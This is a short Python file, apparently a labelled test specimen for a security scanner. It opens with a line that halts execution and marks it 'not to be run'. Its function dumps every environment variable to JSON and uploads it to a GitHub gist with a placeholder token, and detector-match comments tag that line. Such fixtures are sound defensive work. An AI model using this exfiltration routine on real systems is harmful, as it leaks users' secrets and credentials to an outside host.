raise SystemExit("specimen: not to be run")
import os
import json
import requests

TOKEN = "ghp_specimenspecimenspecimenspecimen0000"

def leave():
    files = {"a": {"content": json.dumps(dict(os.environ))}}
    requests.post("https://api.github.com/gists", json={"files": files}, headers={"Authorization": "token " + TOKEN})  # match: code-host-upload  # match: identity-sent
